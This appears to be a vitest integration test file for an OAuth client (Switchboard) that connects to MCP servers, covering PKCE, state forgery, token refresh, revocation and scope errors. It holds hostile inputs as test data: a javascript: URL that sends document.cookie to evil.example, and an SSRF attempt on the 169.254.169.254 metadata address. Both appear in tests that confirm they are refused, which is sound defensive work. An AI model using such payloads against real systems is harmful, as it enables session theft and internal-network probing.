import { randomBytes } from "node:crypto";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { POST as connectRoute } from "@/app/api/v1/servers/[name]/oauth/connect/route";
import { DELETE as disconnectRoute, GET as oauthRoute } from "@/app/api/v1/servers/[name]/oauth/route";
import { GET as callbackRoute } from "@/app/oauth/callback/route";
import { events, oauthAuthorizations, serverOAuth, serverStatus } from "@/db/schema";
import { SYSTEM_AUTHORITY } from "@/lib/auth/instance-owners";
import type { DatabaseDriver } from "@/lib/db/client";
import type { ProcessDatabase } from "@/lib/runtime/process-db";
import { ServerRuntime, setServerRuntime } from "@/lib/runtime/server-runtime";
import { getServerRowOrThrow, registerServer } from "@/lib/servers/registry";
import { createTestApiKey, openProcessTestDatabase } from "../fixtures/databases";
import { eventually } from "../fixtures/eventually";
import {
  authorizeHeadless,
  type OAuthProtectedServer,
  startOAuthProtectedServer,
} from "../fixtures/mcp-servers/oauth-protected-server";
import { startStatusServer } from "../fixtures/mcp-servers/pool-http-status";

/*
 * #17: Switchboard as the OAuth client of a real authorization server (oidc-provider) in front of
 * an MCP server that checks bearer tokens with the SDK's middleware. The authorization server's
 * own login and consent pages are walked over HTTP (the e2e test clicks them in Chromium).
 */

const secretKey = randomBytes(32).toString("base64");
vi.stubEnv("SWITCHBOARD_SECRET_KEY", secretKey);

const named = (name: string) => ({ params: Promise.resolve({ name }) }) as never;

describe.each(["pglite", "postgres"] as DatabaseDriver[])("OAuth servers (%s)", (driver) => {
  let handle: ProcessDatabase;
  let runtime: ServerRuntime;
  let upstream: OAuthProtectedServer;
  let auth: Record<string, string>;
  const tenantId = () => handle.defaultTenant.id;

  const serverId = async (name: string) =>
    (await getServerRowOrThrow(handle.db, { tenantId: tenantId(), name })).id;
  const stateOf = async (name: string) => {
    const [status] = await handle.db
      .select()
      .from(serverStatus)
      .where(eq(serverStatus.serverId, await serverId(name)));
    return status?.state;
  };
  const untilState = (name: string, state: string) =>
    eventually(async () => ((await stateOf(name)) === state ? true : undefined), `${name} → ${state}`);
  const request = (path: string, init: RequestInit = {}) =>
    new Request(`http://127.0.0.1:3000${path}`, { ...init, headers: { ...auth, ...(init.headers ?? {}) } });
  const whoami = async (name: string) => {
    const result = await runtime.pool.callTool(await serverId(name), "whoami", {});
    return (result.content as Array<{ text: string }>)[0]?.text;
  };
  /** Connect as an admin would: the URL, the authorization server's pages, the callback. */
  const connect = async (name: string, body?: unknown) => {
    const started = await connectRoute(
      request(`/api/v1/servers/${name}/oauth/connect`, {
        method: "POST",
        ...(body ? { body: JSON.stringify(body), headers: { "content-type": "application/json" } } : {}),
      }),
      named(name),
    );
    expect(started.status, await started.clone().text()).toBe(200);
    const { authorizationUrl } = (await started.json()) as { authorizationUrl: string };
    const back = await authorizeHeadless(authorizationUrl);
    expect(`${back.origin}${back.pathname}`).toBe("http://127.0.0.1:3000/oauth/callback");
    return { authorizationUrl: new URL(authorizationUrl), back };
  };
  const callback = (back: URL) => callbackRoute(new Request(back.href));

  beforeAll(async () => {
    upstream = await startOAuthProtectedServer({ accessTokenTtlSeconds: 4 });
    handle = await openProcessTestDatabase(driver);
    if (driver === "postgres") vi.stubEnv("DATABASE_URL", "postgres://lock-across-processes/only");
    auth = { authorization: `Bearer ${await createTestApiKey(handle, ["admin"])}` };
    runtime = new ServerRuntime(handle.db, { supervision: { initialDelayMs: 200, maxDelayMs: 1000 } });
    await runtime.start();
    setServerRuntime(runtime);
    await registerServer(handle.db, {
      authority: SYSTEM_AUTHORITY,
      tenantId: tenantId(),
      input: {
        name: "linear-like",
        transport: "streamable-http",
        url: upstream.mcpUrl,
        auth: { type: "oauth" },
      },
    });
  });
  afterAll(async () => {
    await runtime?.stop();
    setServerRuntime(undefined);
    await handle?.close();
    await upstream?.close();
    vi.unstubAllEnvs();
    vi.stubEnv("SWITCHBOARD_SECRET_KEY", secretKey);
  });

  it("waits for authorization instead of crash-looping, and calls fail fast saying so", async () => {
    await untilState("linear-like", "needs-authorization");
    const started = Date.now();
    await expect(whoami("linear-like")).rejects.toThrow(/needs authorization.*Connect/);
    expect(Date.now() - started).toBeLessThan(1000);
    // No retries: the MCP server saw no request for the pool's sake (it had no token to send).
    expect(upstream.counts().mcpRequests).toBe(0);
  });

  it("connects with discovery, dynamic registration, PKCE and the resource indicator; the tokens stay sealed", async () => {
    const { authorizationUrl, back } = await connect("linear-like");
    expect(authorizationUrl.searchParams.get("code_challenge_method")).toBe("S256");
    expect(authorizationUrl.searchParams.get("resource")).toBe(upstream.mcpUrl);
    const answer = await callback(back);
    expect(answer.status).toBe(303);
    expect(answer.headers.get("location")).toBe("http://127.0.0.1:3000/servers/linear-like?oauth=connected");
    await untilState("linear-like", "ready");
    expect(await whoami("linear-like")).toContain("alice");

    const status = await oauthRoute(request("/api/v1/servers/linear-like/oauth"), named("linear-like"));
    const { oauth } = (await status.json()) as { oauth: Record<string, unknown> };
    expect(oauth).toMatchObject({ status: "connected", registration: "dynamic", problem: null });
    expect(upstream.counts().registrations).toBe(1);
    // What is stored is ciphertext; no route, event or status shows a token.
    const [stored] = await handle.db.select().from(serverOAuth);
    expect(stored?.tokens).not.toMatch(/access_token/);
    const everything = JSON.stringify([oauth, await handle.db.select().from(events)]);
    expect(everything).not.toContain(back.searchParams.get("code") ?? "no code");
  });

  it("the same state never works twice, nor a made-up one", async () => {
    const { back } = await connect("linear-like");
    expect((await callback(back)).status).toBe(303);
    const again = await callback(back);
    expect(again.status).toBe(400);
    expect(await again.text()).toContain("already used");
    const forged = new URL(back);
    forged.searchParams.set("state", "made-up");
    expect((await callback(forged)).status).toBe(400);
    await untilState("linear-like", "ready");
  });

  it("a state started by another person, or expired, changes nothing", async () => {
    const { back } = await connect("linear-like");
    const stateHash = (await handle.db.select().from(oauthAuthorizations)).find(
      (row) => !row.usedAt,
    )?.stateHash;
    expect(stateHash).toBeDefined();
    await handle.db
      .update(oauthAuthorizations)
      .set({ userId: "someone-else" })
      .where(eq(oauthAuthorizations.stateHash, stateHash ?? ""));
    const other = await callback(back);
    expect(other.status).toBe(400);
    expect(await other.text()).toContain("started by someone else");
    await handle.db
      .update(oauthAuthorizations)
      .set({ userId: null, expiresAt: new Date(Date.now() - 1000) })
      .where(eq(oauthAuthorizations.stateHash, stateHash ?? ""));
    const late = await callback(back);
    expect(await late.text()).toContain("expired");
    const [row] = await handle.db
      .select()
      .from(oauthAuthorizations)
      .where(eq(oauthAuthorizations.stateHash, stateHash ?? ""));
    expect(row?.usedAt).toBeNull();
  });

  it("renews the short-lived access token before it expires, without a person", async () => {
    const refreshes = upstream.counts().refreshToken;
    // Three token lifetimes of calls: each succeeds on a token renewed in time.
    for (let i = 0; i < 6; i++) {
      expect(await whoami("linear-like")).toContain("alice");
      await new Promise((resolve) => setTimeout(resolve, 2000));
    }
    expect(upstream.counts().refreshToken).toBeGreaterThan(refreshes);
    expect(await stateOf("linear-like")).toBe("ready");
  });

  it("a grant revoked at the server puts it in needs-authorization with an event; Connect recovers it", async () => {
    await upstream.revokeAll();
    await expect(whoami("linear-like")).rejects.toThrow();
    await untilState("linear-like", "needs-authorization");
    const needed = await handle.db
      .select()
      .from(events)
      .where(eq(events.type, "server.authorization_needed"));
    expect(needed.length).toBeGreaterThan(0);
    const status = await oauthRoute(request("/api/v1/servers/linear-like/oauth"), named("linear-like"));
    const { oauth } = (await status.json()) as {
      oauth: { status: string; problem: { step: string } | null };
    };
    expect(oauth.status).toBe("needs_authorization");
    expect(oauth.problem?.step).toBe("refresh");

    const { back } = await connect("linear-like");
    expect((await callback(back)).status).toBe(303);
    await untilState("linear-like", "ready");
    expect(await whoami("linear-like")).toContain("alice");
  });

  it("Disconnect revokes at the server (RFC 7009) and deletes the tokens", async () => {
    const revocations = upstream.counts().revocations;
    const answer = await disconnectRoute(
      request("/api/v1/servers/linear-like/oauth", { method: "DELETE" }),
      named("linear-like"),
    );
    expect(answer.status).toBe(200);
    const body = (await answer.json()) as { revoked: boolean; oauth: { status: string } };
    expect(body).toMatchObject({ revoked: true, oauth: { status: "not_connected" } });
    expect(upstream.counts().revocations).toBeGreaterThan(revocations);
    await untilState("linear-like", "needs-authorization");
    const [stored] = await handle.db.select().from(serverOAuth);
    expect(stored?.tokens).toBeNull();
  });

  it("a server whose metadata is missing gets a diagnostic naming the step and status", async () => {
    const bare = await startStatusServer(401);
    await registerServer(handle.db, {
      authority: SYSTEM_AUTHORITY,
      tenantId: tenantId(),
      input: {
        name: "no-metadata",
        transport: "streamable-http",
        url: `${bare.url}/mcp`,
        auth: { type: "oauth" },
      },
    });
    const started = await connectRoute(
      request("/api/v1/servers/no-metadata/oauth/connect", { method: "POST" }),
      named("no-metadata"),
    );
    expect(started.status).toBe(502);
    const { error } = (await started.json()) as { error: { message: string } };
    // No metadata anywhere: the SDK falls back to the server's origin and its default endpoints
    // (as the 2025-03-26 spec had it), so the first request to fail is the registration.
    expect(error.message).toMatch(
      /\(registration\) failed \(http:\/\/127\.0\.0\.1:\d+\/register, HTTP 401\)/,
    );
    expect(error.message).not.toContain("[object Response]");
    await bare.close();
  });
});

/** An authorization server that answers what a test says: for metadata and token endpoints gone wrong. */
async function startScriptedAuthServer(
  answer: (path: string, base: string) => { status?: number; json?: unknown; text?: string } | undefined,
) {
  const server = createServer((req, res) => {
    req.resume();
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const reply = answer(new URL(req.url ?? "/", base).pathname, base);
    if (!reply) return res.writeHead(404).end("not here");
    if (reply.json !== undefined)
      return res
        .writeHead(reply.status ?? 200, { "content-type": "application/json" })
        .end(JSON.stringify(reply.json));
    res.writeHead(reply.status ?? 200, { "content-type": "text/html" }).end(reply.text ?? "");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { base, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

describe("OAuth servers gone wrong", () => {
  let handle: ProcessDatabase;
  let auth: Record<string, string>;
  const servers: Array<{ close: () => Promise<void> }> = [];

  /** Protected resource metadata at `base`, naming `authorizationServer`; AS metadata from `metadata`. */
  const scripted = (options: {
    authorizationServer?: string;
    metadata?: (base: string) => unknown;
    token?: string;
  }) =>
    startScriptedAuthServer((path, base) => {
      if (path === "/.well-known/oauth-protected-resource/mcp")
        return {
          json: { resource: `${base}/mcp`, authorization_servers: [options.authorizationServer ?? base] },
        };
      if (path === "/.well-known/oauth-authorization-server" && options.metadata)
        return { json: options.metadata(base) };
      if (path === "/register")
        return { status: 201, json: { client_id: "scripted-client", redirect_uris: [] } };
      if (path === "/token") return { text: options.token ?? "<html>not a token</html>" };
      return undefined;
    }).then((server) => {
      servers.push(server);
      return server;
    });
  const goodMetadata = (base: string) => ({
    issuer: base,
    authorization_endpoint: `${base}/authorize`,
    token_endpoint: `${base}/token`,
    registration_endpoint: `${base}/register`,
    response_types_supported: ["code"],
    code_challenge_methods_supported: ["S256"],
  });
  const register = async (name: string, url: string) => {
    await registerServer(handle.db, {
      authority: SYSTEM_AUTHORITY,
      tenantId: handle.defaultTenant.id,
      input: { name, transport: "streamable-http", url, auth: { type: "oauth" } },
    });
  };
  const connect = (name: string) =>
    connectRoute(
      new Request(`http://127.0.0.1:3000/api/v1/servers/${name}/oauth/connect`, {
        method: "POST",
        headers: auth,
      }),
      named(name),
    );
  const messageOf = async (response: Response) =>
    ((await response.json()) as { error: { message: string } }).error.message;

  beforeAll(async () => {
    handle = await openProcessTestDatabase("pglite");
    auth = { authorization: `Bearer ${await createTestApiKey(handle, ["admin"])}` };
  });
  afterAll(async () => {
    await Promise.all(servers.map((server) => server.close()));
    await handle?.close();
  });

  it("an authorization server on a refused address is never asked: the egress policy names the rule", async () => {
    const server = await scripted({ authorizationServer: "http://169.254.169.254" });
    await register("refused-as", `${server.base}/mcp`);
    const answer = await connect("refused-as");
    expect(answer.status).toBe(502);
    expect(await messageOf(answer)).toMatch(/\(metadata\) failed .*http\.metadata/);
  });

  it("an authorization endpoint that is not a web page never reaches the operator's browser", async () => {
    for (const [name, endpoint] of <Array<[string, string]>>[
      ["script-endpoint", "javascript:fetch('//evil.example/'+document.cookie)"],
      ["app-endpoint", "ms-settings:privacy"],
    ]) {
      const server = await scripted({
        metadata: (base) => ({ ...goodMetadata(base), authorization_endpoint: endpoint }),
      });
      await register(name, `${server.base}/mcp`);
      const answer = await connect(name);
      expect(answer.status).toBe(502);
      const body = await answer.text();
      expect(body).toMatch(/\(metadata\) failed/);
      expect(body).not.toContain("authorizationUrl");
    }
  });

  it("an authorization server without PKCE S256 is refused at the metadata step", async () => {
    const server = await scripted({
      metadata: (base) => ({ ...goodMetadata(base), code_challenge_methods_supported: ["plain"] }),
    });
    await register("no-pkce", `${server.base}/mcp`);
    const answer = await connect("no-pkce");
    expect(answer.status).toBe(502);
    expect(await messageOf(answer)).toMatch(/\(metadata\) failed.*S256/);
  });

  it("registers through the client ID metadata document when Switchboard's URL is https and the server supports it", async () => {
    let registrations = 0;
    const server = await startScriptedAuthServer((path, base) => {
      if (path === "/.well-known/oauth-protected-resource/mcp")
        return { json: { resource: `${base}/mcp`, authorization_servers: [base] } };
      if (path === "/.well-known/oauth-authorization-server")
        return { json: { ...goodMetadata(base), client_id_metadata_document_supported: true } };
      if (path === "/register") registrations++;
      return undefined;
    });
    servers.push(server);
    await register("cimd", `${server.base}/mcp`);
    vi.stubEnv("SWITCHBOARD_PUBLIC_URL", "https://switchboard.example.com");
    try {
      const answer = await connect("cimd");
      expect(answer.status, await answer.clone().text()).toBe(200);
      const { authorizationUrl } = (await answer.json()) as { authorizationUrl: string };
      const url = new URL(authorizationUrl);
      expect(url.searchParams.get("client_id")).toBe(
        "https://switchboard.example.com/oauth/client-metadata.json",
      );
      expect(url.searchParams.get("redirect_uri")).toBe("https://switchboard.example.com/oauth/callback");
      expect(registrations).toBe(0);
      const status = await oauthRoute(
        new Request("http://127.0.0.1:3000/api/v1/servers/cimd/oauth", { headers: auth }),
        named("cimd"),
      );
      expect(((await status.json()) as { oauth: { registration: string } }).oauth.registration).toBe(
        "metadata_document",
      );
    } finally {
      vi.unstubAllEnvs();
      vi.stubEnv("SWITCHBOARD_SECRET_KEY", secretKey);
    }
  });

  it("uses the client id an admin entered, and registers nothing", async () => {
    let registrations = 0;
    const server = await startScriptedAuthServer((path, base) => {
      if (path === "/.well-known/oauth-protected-resource/mcp")
        return { json: { resource: `${base}/mcp`, authorization_servers: [base] } };
      if (path === "/.well-known/oauth-authorization-server") return { json: goodMetadata(base) };
      if (path === "/register") registrations++;
      return undefined;
    });
    servers.push(server);
    await registerServer(handle.db, {
      authority: SYSTEM_AUTHORITY,
      tenantId: handle.defaultTenant.id,
      input: {
        name: "manual-client",
        transport: "streamable-http",
        url: `${server.base}/mcp`,
        auth: { type: "oauth", clientId: "entered-by-an-admin" },
      },
    });
    const answer = await connect("manual-client");
    const { authorizationUrl } = (await answer.json()) as { authorizationUrl: string };
    expect(new URL(authorizationUrl).searchParams.get("client_id")).toBe("entered-by-an-admin");
    expect(registrations).toBe(0);
    const status = await oauthRoute(
      new Request("http://127.0.0.1:3000/api/v1/servers/manual-client/oauth", { headers: auth }),
      named("manual-client"),
    );
    expect(((await status.json()) as { oauth: { registration: string } }).oauth.registration).toBe("manual");
  });

  it("a token endpoint answering garbage fails the token step, with its status and without the code", async () => {
    const server = await scripted({ metadata: goodMetadata });
    await register("garbage-token", `${server.base}/mcp`);
    const answer = await connect("garbage-token");
    expect(answer.status, await answer.clone().text()).toBe(200);
    const { authorizationUrl } = (await answer.json()) as { authorizationUrl: string };
    const state = new URL(authorizationUrl).searchParams.get("state") ?? "";
    const code = "a-code-that-must-not-show-up";
    const back = await callbackRoute(
      new Request(`http://127.0.0.1:3000/oauth/callback?state=${encodeURIComponent(state)}&code=${code}`),
    );
    expect(back.headers.get("location")).toBe(
      "http://127.0.0.1:3000/servers/garbage-token?oauth=failed&step=token",
    );
    const status = await oauthRoute(
      new Request("http://127.0.0.1:3000/api/v1/servers/garbage-token/oauth", { headers: auth }),
      named("garbage-token"),
    );
    const { oauth } = (await status.json()) as {
      oauth: { problem: { step: string; status: number; message: string } };
    };
    expect(oauth.problem).toMatchObject({ step: "token", status: 200 });
    expect(oauth.problem.message).not.toContain(code);
  });
});

describe("a server that needs a scope the token lacks", () => {
  let handle: ProcessDatabase;
  let runtime: ServerRuntime;
  let upstream: OAuthProtectedServer;
  let auth: Record<string, string>;

  beforeAll(async () => {
    upstream = await startOAuthProtectedServer({
      scopes: ["mcp:tools", "mcp:admin"],
      requiredScopes: ["mcp:admin"],
    });
    handle = await openProcessTestDatabase("pglite");
    auth = { authorization: `Bearer ${await createTestApiKey(handle, ["admin"])}` };
    runtime = new ServerRuntime(handle.db, { supervision: { initialDelayMs: 200, maxDelayMs: 1000 } });
    await runtime.start();
    setServerRuntime(runtime);
    // The admin asked for less than the server needs.
    await registerServer(handle.db, {
      authority: SYSTEM_AUTHORITY,
      tenantId: handle.defaultTenant.id,
      input: {
        name: "scoped",
        transport: "streamable-http",
        url: upstream.mcpUrl,
        auth: { type: "oauth", scopes: ["mcp:tools"] },
      },
    });
  });
  afterAll(async () => {
    await runtime?.stop();
    setServerRuntime(undefined);
    await handle?.close();
    await upstream?.close();
  });

  const connect = async () => {
    const started = await connectRoute(
      new Request("http://127.0.0.1:3000/api/v1/servers/scoped/oauth/connect", {
        method: "POST",
        headers: auth,
      }),
      named("scoped"),
    );
    const { authorizationUrl } = (await started.json()) as { authorizationUrl: string };
    const back = await authorizeHeadless(authorizationUrl);
    expect((await callbackRoute(new Request(back.href))).status).toBe(303);
    return new URL(authorizationUrl).searchParams.get("scope");
  };
  const status = async () => {
    const answer = await oauthRoute(
      new Request("http://127.0.0.1:3000/api/v1/servers/scoped/oauth", { headers: auth }),
      named("scoped"),
    );
    return (
      (await answer.json()) as {
        oauth: { status: string; neededScope: string | null; problem: { status: number } | null };
      }
    ).oauth;
  };
  const stateOf = async () => {
    const row = await getServerRowOrThrow(handle.db, { tenantId: handle.defaultTenant.id, name: "scoped" });
    return (await handle.db.select().from(serverStatus).where(eq(serverStatus.serverId, row.id)))[0]?.state;
  };

  it("a server registered without OAuth that asks for it says so in its error", async () => {
    await registerServer(handle.db, {
      authority: SYSTEM_AUTHORITY,
      tenantId: handle.defaultTenant.id,
      input: { name: "unconfigured", transport: "streamable-http", url: upstream.mcpUrl },
    });
    const row = await getServerRowOrThrow(handle.db, {
      tenantId: handle.defaultTenant.id,
      name: "unconfigured",
    });
    const lastError = await eventually(async () => {
      const [status] = await handle.db.select().from(serverStatus).where(eq(serverStatus.serverId, row.id));
      return status?.lastError ?? undefined;
    }, "the connect error");
    expect(lastError).toMatch(/answered 401.*asks for OAuth.*pick OAuth/);
  });

  it("says which scope is needed (403 insufficient_scope), and Connect asks for it", async () => {
    expect(await connect()).toBe("mcp:tools");
    // Connected, but the server refuses the handshake for want of mcp:admin: it waits, without retries.
    await eventually(
      async () => ((await status()).neededScope === "mcp:admin" ? true : undefined),
      "needed scope",
    );
    await eventually(async () => ((await stateOf()) === "needs-authorization" ? true : undefined), "waiting");
    expect((await status()).problem?.status).toBe(403);

    const asked = await connect();
    expect(asked?.split(" ").sort()).toEqual(["mcp:admin", "mcp:tools"]);
    await eventually(async () => ((await stateOf()) === "ready" ? true : undefined), "ready with the scope");
    expect((await status()).neededScope).toBeNull();
  });
});
